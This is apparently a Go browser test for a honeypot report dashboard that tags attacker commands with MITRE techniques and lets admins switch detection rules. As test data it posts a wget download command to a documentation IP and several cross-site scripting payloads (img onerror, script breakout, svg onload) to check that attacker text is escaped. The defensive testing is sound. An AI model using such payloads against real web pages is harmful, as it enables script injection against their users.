package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"ttpctl/internal/browsertest"
)

const readerToken = "reader-0123456789abcdef"

// commandEvent is an event of a command line.
func commandEvent(id, command string) string {
	text, err := json.Marshal(command)
	if err != nil {
		panic(err) // it is a string
	}
	return `{"source_kind":"command","source_id":"` + id + `","session_id":"s1","attacker_ip":"203.0.113.9","payload":{"command_text":` + string(text) + `}}`
}

// harm returns what a page let its texts do, and what the browser complained of.
func harm(t *testing.T, b *browsertest.Browser) []string {
	t.Helper()
	strange := browsertest.Value[[]string](t, b, `[...document.querySelectorAll("*")].filter(e => ["IMG","IFRAME","OBJECT","EMBED","LINK","BASE"].includes(e.tagName) ||
		[...e.attributes].some(a => a.name.startsWith("on") || a.name === "style") || e.tagName === "A" && !/^(https:\/\/attack\.mitre\.org\/|http:\/\/(127\.0\.0\.1|localhost):\d+\/)/.test(e.href)).map(e => e.outerHTML.slice(0, 200))`)
	return append(strange, b.Complaints()...)
}

// signIn gives a token to the form that the page shows.
func signIn(t *testing.T, b *browsertest.Browser, url, token string) {
	t.Helper()
	b.Run(t, chromedp.Navigate(url), chromedp.WaitVisible("#token", chromedp.ByQuery), chromedp.SendKeys("#token", token+"\r", chromedp.ByQuery), chromedp.WaitReady("#hits", chromedp.ByQuery))
}

// TestPageInBrowser: an admin signs in, sees hits arrive without a reload, switches
// a rule off, and signs out; a reader sees it all, and no switch.
func TestPageInBrowser(t *testing.T) {
	t.Parallel()
	b := browsertest.Open(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "tokens"), []byte("ingest "+sensorToken+"\nadmin "+adminToken+" ana\nreader "+readerToken+" rob\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	l := startListening(t, dir)
	tags := 0
	post := func(id, command string) (fresh int) {
		t.Helper()
		_, text := l.ask("POST", "/v1/events", sensorToken, commandEvent(id, command))
		var answer struct {
			New *int `json:"tags_new"`
		}
		if err := json.Unmarshal([]byte(text), &answer); err != nil || answer.New == nil {
			t.Fatalf("an event is answered with %s, %v", text, err)
		}
		tags += *answer.New
		return *answer.New
	}
	b.Run(t, emulation.SetDeviceMetricsOverride(1280, 900, 1, false))
	signIn(t, b, l.url, adminToken)
	b.Eventually(t, `document.querySelector("#live-status").textContent === "Live"`)
	reader := b.Tab(t) // another host name, so that it has cookies of its own
	reader.Run(t, emulation.SetDeviceMetricsOverride(390, 844, 2, true))
	signIn(t, reader, strings.Replace(l.url, "127.0.0.1", "localhost", 1), readerToken)
	reader.Eventually(t, `document.querySelector("#live-status").textContent === "Live"`)

	for _, tab := range []*browsertest.Browser{b, reader} {
		tab.Run(t, chromedp.Evaluate(`window.same = "page"`, nil))
	}
	post("e1", "wget http://192.0.2.7/x")
	for _, tab := range []*browsertest.Browser{b, reader} {
		tab.Eventually(t, `document.querySelectorAll("#hits-table tbody tr").length === 1 && document.querySelector("#hits-table .tech").textContent.includes("T1105")`)
		tab.Eventually(t, `document.querySelector("#n-tags").textContent === "1" && [...document.querySelectorAll(".cell small")].some(c => c.firstChild.data === "T1105")`)
	}

	// What somebody is doing survives the next report; what attackers wrote is text.
	b.Run(t, chromedp.SendKeys("#attacker-search", "203", chromedp.ByQuery))
	for i, text := range []string{`<img src=x onerror="document.title='pwned'">`, `</script><script>document.title='pwned'</script>`, `'"><svg onload=document.title='pwned'>`, "\u202e\x1b[31m{{.Title}}"} {
		post(fmt.Sprint("h", i), "wget 'http://192.0.2.8/"+text+"'")
	}
	b.Eventually(t, fmt.Sprintf(`document.querySelector("#n-tags").textContent === "%d" && document.querySelector("#hits-table").textContent.includes("<svg onload")`, tags))
	b.Eventually(t, `document.querySelector("#attacker-search").value === "203" && document.querySelector("#attacker-found").textContent === "1 of 1" && document.activeElement.id === "attacker-search"`)

	b.Run(t, chromedp.Evaluate(`document.querySelector("#all-rules").open = true; document.querySelector("#rule-R0012 a.switch").click()`, nil), chromedp.WaitVisible("#rule-panel form", chromedp.ByQuery),
		chromedp.SendKeys(`#rule-panel input[name="reason"]`, "vendor <b>scan</b>", chromedp.ByQuery), chromedp.Click(`#rule-panel button[type="submit"]`, chromedp.ByQuery))
	b.Eventually(t, `document.querySelector("#rule-panel .now .mode").textContent === "off" && document.querySelector("#rule-panel .now").textContent.includes("by ana")`)
	if list := l.run("rule", "list", "--state", "disabled", "--db", filepath.Join(dir, "t.db"), "-o", "json"); !strings.Contains(list, `"R0012"`) || !strings.Contains(list, "scan") || !strings.Contains(list, "ana") {
		t.Errorf("rule list says %s", list)
	}
	reader.Eventually(t, `document.querySelector(".switched #rule-R0012 .mode.disabled") !== null && document.querySelector("#rules").textContent.includes("vendor <b>scan</b>")`)
	if buttons := browsertest.Value[int](t, reader, `document.querySelectorAll("#rules .button").length`); buttons != 0 {
		t.Errorf("a reader sees %d switches", buttons)
	}
	if n := post("e2", "wget http://192.0.2.7/x"); n != 0 {
		t.Errorf("a rule that is off tagged %d times", n)
	}

	// Two who change one rule: the second is told.
	b.Run(t, chromedp.KeyEvent("\u001b"))
	b.Eventually(t, `document.querySelector(".switched #rule-R0012 a.switch") !== null`)
	b.Run(t, chromedp.Evaluate(`document.querySelector("#rule-R0012 a.switch").click()`, nil), chromedp.WaitVisible(`#rule-panel input[value="enabled"]`, chromedp.ByQuery))
	l.want(200, `"clipped"`, "PUT", "/v1/rules/R0012/state", adminToken, `{"state":"clipped","confidence_max":0.4,"reason":"loud"}`, "If-Match", `"1"`)
	b.Run(t, chromedp.SendKeys(`#rule-panel input[name="reason"]`, "over", chromedp.ByQuery), chromedp.Click(`#rule-panel button[type="submit"]`, chromedp.ByQuery))
	b.Eventually(t, `document.querySelector("#rule-panel .problem") !== null && document.querySelector("#rule-panel .now").textContent.includes("at most 0.40")`)
	conflict := b.Complaints() // of the browser, that it is answered 409
	if len(conflict) != 1 || !strings.Contains(conflict[0], "409") {
		t.Errorf("of a conflict the browser says %q", conflict)
	}

	for name, tab := range map[string]*browsertest.Browser{"admin": b, "reader": reader} {
		if all := harm(t, tab); len(all) > 0 {
			t.Errorf("%s: %s", name, strings.Join(all, "\n"))
		}
		if same, title := browsertest.Value[string](t, tab, `window.same`), browsertest.Value[string](t, tab, `document.title`); same != "page" || title != "Honeypot report, live" {
			t.Errorf("%s: the page was loaded again, or its title is %q", name, title)
		}
	}
	if w := browsertest.Value[int](t, reader, "document.documentElement.scrollWidth"); w > 390 {
		t.Errorf("the page is %d wide on a phone of 390", w)
	}
	other := b.Tab(t) // of the same session
	other.Run(t, chromedp.Navigate(l.url))
	other.Eventually(t, `document.querySelector("#live-status").textContent === "Live"`)
	other.Run(t, chromedp.Evaluate(`const later = setTimeout; window.setTimeout = (f, n) => later(f, n === 5000 ? 100 : n); 0`, nil))
	b.Run(t, chromedp.KeyEvent("\u001b"), chromedp.Click("#sign-out", chromedp.ByQuery), chromedp.WaitVisible("#token", chromedp.ByQuery), chromedp.Navigate(l.url), chromedp.WaitVisible("#token", chromedp.ByQuery))
	if all := b.Complaints(); len(all) > 0 {
		t.Errorf("signed out: %q", all)
	}
	const isOut = `document.querySelector("#live-status").textContent.startsWith("Signed out")`
	other.Eventually(t, isOut)
	other.Run(t, chromedp.Evaluate(`window.after = performance.getEntriesByType("resource").length; 0`, nil), chromedp.Sleep(time.Second))
	if still := browsertest.Value[bool](t, other, isOut+` && performance.getEntriesByType("resource").length === window.after`); !still {
		t.Error("a page whose session has ended goes on asking")
	}
	l.stop()
	if got := l.stderr.String(); strings.Contains(got, adminToken) || strings.Contains(got, readerToken) || strings.Contains(got, "pwned") {
		t.Errorf("the log shows a token, or what an attacker wrote:\n%s", got)
	}
}

// TestPageWithoutScript: who runs no JavaScript signs in, reads the report and
// switches a rule.
func TestPageWithoutScript(t *testing.T) {
	t.Parallel()
	b := browsertest.Open(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "tokens"), []byte("admin "+adminToken+" ana\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	l := startListening(t, dir)
	l.want(200, `"tags_new":1`, "POST", "/v1/events", adminToken, commandEvent("e1", "wget http://192.0.2.7/x"))
	b.Run(t, emulation.SetScriptExecutionDisabled(true))
	signIn(t, b, l.url, adminToken)
	var text string
	b.Run(t, chromedp.WaitVisible("#all-rules", chromedp.ByQuery), chromedp.Text("body", &text, chromedp.ByQuery))
	if !strings.Contains(text, "203.0.113.9") || !strings.Contains(text, "T1105") {
		t.Errorf("the page says %s", text)
	}
	b.Run(t, chromedp.Click("#all-rules summary", chromedp.ByQuery), chromedp.Click("#rule-R0012 a.switch", chromedp.ByQuery), chromedp.SendKeys(`input[name="reason"]`, "vendor scan", chromedp.ByQuery),
		chromedp.Click(`button[type="submit"].primary`, chromedp.ByQuery), chromedp.WaitVisible(".now .mode.disabled", chromedp.ByQuery))
	l.want(200, `"disabled"`, "GET", "/v1/rules/R0012/state", adminToken, "")
	b.Run(t, chromedp.Click("#sign-out", chromedp.ByQuery), chromedp.WaitVisible("#token", chromedp.ByQuery))
	if all := b.Complaints(); len(all) > 0 {
		t.Errorf("%q", all)
	}
	l.stop()
}
